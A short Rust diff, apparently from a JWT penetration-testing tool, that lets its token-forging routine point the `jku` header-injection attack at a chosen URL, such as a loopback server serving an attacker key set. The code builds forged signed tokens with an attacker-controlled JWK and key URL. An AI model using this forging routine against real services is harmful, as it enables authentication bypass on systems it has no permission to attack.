@@ -274,6 +274,22 @@ pub fn forge(
     public_key_file: Option<&[u8]>,
     set: &[(String, Value)],
 ) -> Result<Forged, ForgeError> {
+    forge_with_jku(original, attack, public_key_file, set, ATTACKER_JKU)
+}
+
+/// [`forge`] with the `jku` attack pointing at `jku` instead of [`ATTACKER_JKU`]: `probe` serves
+/// the attacker's JWKS itself on loopback and needs the token to name that server. Every other
+/// attack ignores `jku`.
+///
+/// # Errors
+/// As [`forge`].
+pub fn forge_with_jku(
+    original: &Token,
+    attack: Attack,
+    public_key_file: Option<&[u8]>,
+    set: &[(String, Value)],
+    jku: &str,
+) -> Result<Forged, ForgeError> {
     if original.kind != Kind::Jws || original.signatures.is_empty() {
         return Err(ForgeError::NotJws);
     }
@@ -339,7 +355,7 @@ pub fn forge(
                 jwk.insert("kid".into(), json!(key.thumbprint));
                 jwk.insert("use".into(), json!("sig"));
                 jwk.insert("alg".into(), json!("ES256"));
-                header.insert("jku".into(), json!(ATTACKER_JKU));
+                header.insert("jku".into(), json!(jku));
                 header.insert("kid".into(), json!(key.thumbprint));
                 attacker_jwks = Some(json!({"keys": [Value::Object(jwk)]}));
             }
